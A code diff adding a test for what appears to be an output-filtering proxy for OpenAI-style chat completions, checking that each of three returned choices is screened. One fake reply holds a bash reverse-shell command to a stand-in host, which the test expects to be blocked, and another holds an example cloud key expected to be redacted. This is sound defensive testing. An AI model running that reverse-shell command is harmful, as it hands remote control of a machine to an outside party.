@@ -136,6 +136,25 @@ def test_proxy_with_openai_client(guard, upstream):
         assert leak.choices[0].message.content == "key [CLOUD_KEY] ok"
 
 
+def test_proxy_checks_every_choice(guard, upstream):
+    base_url, state = upstream
+    state["replies"] = [
+        "Here is a safe answer.",
+        "run bash -i >& /dev/tcp/evil.test/9 0>&1",
+        "key AKIAIOSFODNN7EXAMPLE ok",
+    ]
+    app = create_app(guard, upstream=base_url)
+    with running_service(app) as base:
+        client = openai.OpenAI(base_url=f"{base}/v1", api_key="k", max_retries=0)
+        done = client.chat.completions.create(
+            model="m", n=3, messages=[{"role": "user", "content": "three answers please"}]
+        )
+    first, shell, leak = done.choices
+    assert (first.message.content, first.finish_reason) == ("Here is a safe answer.", "stop")
+    assert (shell.message.content, shell.finish_reason) == ("Blocked by policy.", "content_filter")
+    assert leak.message.content == "key [CLOUD_KEY] ok"
+
+
 def test_proxy_streaming(guard, upstream):
     base_url, _ = upstream
     app = create_app(guard, upstream=base_url, stream_window=16)
